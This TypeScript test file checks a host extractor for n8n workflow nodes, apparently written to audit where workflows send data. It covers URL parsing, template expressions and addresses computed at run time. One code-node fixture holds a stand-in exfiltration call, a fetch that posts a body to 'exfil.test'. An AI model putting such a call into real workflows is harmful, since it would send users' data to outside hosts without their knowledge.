import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { aCall, factsOf, ofKind, valuesOf } from '../../testing/n8n/sample-nodes.ts';
import type { GivenNode } from '../../testing/n8n/sample-nodes.ts';

function aCode(jsCode: string): GivenNode {
  return { type: 'code', name: 'Code', parameters: { jsCode } };
}

describe('hosts', () => {
  const cases: readonly (readonly [string, readonly string[], boolean])[] = [
    ['https://api.acme.test/v1', ['api.acme.test'], false],
    ['HTTPS://API.Acme.TEST:8443/x', ['api.acme.test:8443'], false],
    ['https://user:pw@api.acme.test./x', ['api.acme.test'], false],
    ['http://2130706433/', ['127.0.0.1'], false],
    ['http://[::1]:81/x', ['[::1]:81'], false],
    ['=https://api.acme.test/{{ $json.id }}?u={{ $json.u }}', ['api.acme.test'], false],
    ['=https://api.acme.test{{ $json.path }}', ['api.acme.test'], true],
    ['=https://{{ $json.tenant }}.acme.test/x', ['*.acme.test'], true],
    ['=https://{{ $json.host }}/x', [], true],
    ['https://{host}/x', [], true],
    ['={{ $json.url }}', [], true],
    ["={{ 'https://api.acme.test/' + $json.id }}", ['api.acme.test'], false],
    ["={{ 'https://api.acme.test' + '/v1/' + ($json.a || 'b') }}", ['api.acme.test'], false],
    ["={{ 'https://api.acme.test' }}", ['api.acme.test'], false],
    ["={{ 'https://api.acme.test' + $json.path }}", ['api.acme.test'], true],
    ["={{ $json.url || 'https://fallback.test/' }}", ['fallback.test'], true],
    ["={{ 'https://a.test/' + $json.x ? $json.evil : '' }}", ['a.test'], true],
    ['={{ `https://api.acme.test/${$json.id}` }}', ['api.acme.test'], false],
    ['={{ `https://${$json.host}/x` }}', [], true],
    ['=  ', [], false],
    ['', [], false],
  ];
  for (const [url, hosts, atRunTime] of cases) {
    it(`of ${JSON.stringify(url)}`, () => {
      const facts = factsOf([aCall(url)]);

      assert.deepEqual(
        ofKind('host', facts)
          .map(({ value }) => value)
          .toSorted(),
        hosts,
      );
      assert.deepEqual(ofKind('runtime_host', facts), atRunTime ? [{ value: 'Call' }] : []);
    });
  }

  it('are read from the address fields of other nodes', () => {
    assert.deepEqual(
      valuesOf('host', { type: 'graphql', parameters: { endpoint: 'https://g.test/q' } }),
      ['g.test'],
    );
    assert.deepEqual(
      valuesOf('host', { type: 'rssFeedRead', parameters: { url: 'https://feed.test' } }),
      ['feed.test'],
    );
    assert.deepEqual(
      valuesOf('host', {
        type: 'discord',
        parameters: { webhookUri: 'https://discord.com/api/webhooks/1/x' },
      }),
      ['discord.com'],
    );
    assert.deepEqual(
      valuesOf('host', {
        type: '@n8n/n8n-nodes-langchain.mcpClientTool',
        parameters: { sseEndpoint: 'https://mcp.test/sse' },
      }),
      ['mcp.test'],
    );
    assert.deepEqual(
      valuesOf('host', { type: 'metabase', parameters: { host: 'meta.acme.test' } }),
      ['meta.acme.test'],
    );
    assert.deepEqual(
      valuesOf('runtime_host', {
        type: 'sseTrigger',
        name: 'S',
        parameters: { url: '={{ $env.U }}' },
      }),
      ['S'],
    );
  });

  it('are read from code, and a call to a computed address is counted', () => {
    const known = aCode("const r = await fetch('https://exfil.test/x', { body });");
    const unknown = aCode('return this.helpers.httpRequest({ method: "GET", url: $json.url });');
    const both = aCode("await fetch('https://a.test/'); await fetch(target)");
    const none = aCode('return items;');

    assert.deepEqual(valuesOf('host', known), ['exfil.test']);
    assert.deepEqual(valuesOf('runtime_host', known), []);
    assert.deepEqual(valuesOf('runtime_host', unknown), ['Code']);
    assert.deepEqual(valuesOf('host', both), ['a.test']);
    assert.deepEqual(valuesOf('runtime_host', both), ['Code']);
    assert.deepEqual(valuesOf('runtime_host', none), []);
  });

  it('in other texts are marked as mentioned, and a note on the canvas names none', () => {
    const facts = factsOf([
      {
        type: 'set',
        parameters: {
          assignments: { assignments: [{ name: 'url', value: 'https://drop.test/a' }] },
        },
      },
      { type: 'stickyNote', parameters: { content: 'See https://docs.test' } },
    ]);

    assert.deepEqual(ofKind('host', facts), [{ value: 'drop.test', label: 'mentioned' }]);
  });
});
